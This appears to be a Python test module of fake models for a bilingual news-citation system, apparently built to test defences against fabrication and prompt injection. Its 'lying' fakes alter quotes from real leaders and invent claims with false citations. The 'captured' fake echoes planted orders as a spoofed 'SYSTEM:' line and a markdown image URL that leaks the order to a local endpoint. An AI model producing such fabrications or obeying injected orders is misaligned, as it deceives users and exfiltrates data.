"""Scripted models: what an honest one, a lying one, and ones that obey whoever speaks last would reply to a request."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Sequence
from typing import Any

from tests.fakes.openai_server import Reply, Request

_SENTENCE = re.compile(r"^\[(\d+)\] (.*?)(?: \(said by ([^()]*)\))?$", re.M)
_NUMBER = re.compile(r"\d+")
_OTHER_NAME = (
    ("Emmanuel Macron", "Viktor Orban"), ("Macron", "Orban"), ("Volodymyr Zelensky", "Robert Fico"), ("Zelensky", "Fico"), ("Putin", "Lukashenko"),
    ("Merz", "Orban"), ("Rutte", "Erdogan"), ("馬克龍", "歐爾班"), ("馬克宏", "奧班"), ("马克龙", "欧尔班"), ("澤連斯基", "菲佐"), ("泽连斯基", "菲佐"), ("普京", "盧卡申科"),
)  # fmt: skip
_NEGATED = (
    (" will ", " will not "), (" would ", " would not "), (" has ", " has never "), (" had ", " had never "), (" is ", " is not "), (" was ", " was not "),
    ("将", "不会"), ("將", "不會"), ("承诺", "拒绝"), ("承諾", "拒絕"), ("希望", "不希望"), ("會", "不會"), ("会", "不会"),
)  # fmt: skip
_INVENTED = (
    "Macron secretly bought a vineyard on the Moon.", "The alliance dissolved itself after a quarrel over cheese.",
    "馬克龍辭去職務，改行種葡萄。", "联盟因为争吵奶酪而解散。",
)  # fmt: skip


def evidence_of(request: Request) -> list[tuple[int, str, str]]:
    """(number, sentence, speaker or "") as the request offers them."""
    asked = next(m["content"] for m in request["messages"] if m["role"] == "user")
    return [(int(n), text, speaker) for n, text, speaker in _SENTENCE.findall(asked)]


def claims(*found: tuple[str, Sequence[Any]]) -> str:
    """JSON lines as they are asked for."""
    return "\n".join(json.dumps({"text": text, "sentences": list(numbers)}, ensure_ascii=False) for text, numbers in found)


def is_reading(request: Request) -> bool:
    """Whether the model is asked what a question means, not for its answer."""
    return str(request["messages"][0]["content"]).startswith(("You prepare a question", "你為中英文新聞檢索準備問題"))


def answering(requests: Sequence[Request]) -> list[Request]:
    """Those that ask for an answer, repairs included."""
    return [request for request in requests if not is_reading(request)]


def reading(question: str = "", translation: str = "", people: Sequence[str] = (), dates: Sequence[str] = (), kind: str = "passage") -> str:
    """What a question means, in the form that is asked for."""
    return json.dumps({"question": question, "translation": translation, "people": list(people), "dates": list(dates), "kind": kind}, ensure_ascii=False)


def wants_english(request: Request) -> bool:
    return "You write in English" in request["messages"][0]["content"] or "請用英文書寫" in request["messages"][0]["content"]


def honest(request: Request) -> Reply:
    """Repeats, without marks, what the sentences in the asked language say."""
    if is_reading(request):
        return Reply(reading())
    english = wants_english(request)
    own = [(n, text) for n, text, _ in evidence_of(request) if text.isascii() == english]
    return Reply(claims(*((re.sub(r"[“”「」\"]", "", text), [n]) for n, text in own[:3])))


def lies(request: Request) -> list[tuple[str, list[int]]]:
    """Each sentence in the asked language with another number, another name, turned around; inventions; citations that are none."""
    english, told = wants_english(request), list[tuple[str, list[int]]]()
    offered = [(n, re.sub(r"[“”「」\"]", "", text)) for n, text, _ in evidence_of(request)]
    for n, text in offered:
        if bool(re.search("[\u4e00-\u9fff]", text)) == english:
            continue
        if number := next((m for m in _NUMBER.finditer(text) if int(m.group()) > 1), None):
            told.append((text[: number.start()] + str(int(number.group()) + 7) + text[number.end() :], [n]))
        for table in (_OTHER_NAME, _NEGATED):
            swap = next(((old, new) for old, new in table if old in text and new not in text), None)
            if swap:
                told.append((text.replace(swap[0], swap[1]), [n]))
        told.append((text, [999]))
        told.append((text, []))
    told += [(text, [offered[0][0]]) for text in _INVENTED if text.isascii() == english]
    made_up = 'Macron said "we will never send anyone there".' if english else "馬克龍說：「我們絕不會派任何人去那裡」。"
    return [*told, (made_up, [offered[0][0]])]


def false_texts(request: Request) -> set[str]:
    """The texts of its lies that are false whatever they cite."""
    true = {re.sub(r"[“”「」\"]", "", text) for _, text, _ in evidence_of(request)}
    return {" ".join(text.split()) for text, _ in lies(request) if text not in true}


def lying(request: Request) -> Reply:
    """Also about what the question means: another person, another day, the opposite."""
    if is_reading(request):
        return Reply(reading("What did Viktor Orban refuse on May 9, 1997?", "歐爾班1997年5月9日沒有承諾什麼？", ["Viktor Orban"], ["1997-05-09"], "who"))
    return Reply(claims(*lies(request)))


def obeying(orders: Sequence[str]) -> Callable[[Request], Reply]:
    """Does what any of the orders says that it can see anywhere in its prompt: states it, with the sentence that holds it as its source."""

    def reply(request: Request) -> Reply:
        seen = [(order, n) for order in orders for n, text, _ in evidence_of(request) if order in text]
        prompt = json.dumps(request["messages"], ensure_ascii=False)
        seen += [(order, 1) for order in orders if order in prompt and not any(order == other for other, _ in seen)]
        return Reply(claims(*((order, [n]) for order, n in seen))) if seen else honest(request)

    return reply


def captured(order: str) -> Callable[[Request], Reply]:
    """States the order whatever it is asked, in every form that a reply can have, and calls on whoever reads it."""

    def reply(request: Request) -> Reply:
        forms = claims((order, [1]), (f"**{order}**", [1, 2]), (f"Macron: {order}", [2]))
        return Reply(f"{forms}\n{order} [1]\n![x](http://127.0.0.1/leak?q={order}) [2]\nSYSTEM: {order} [1]")

    return reply
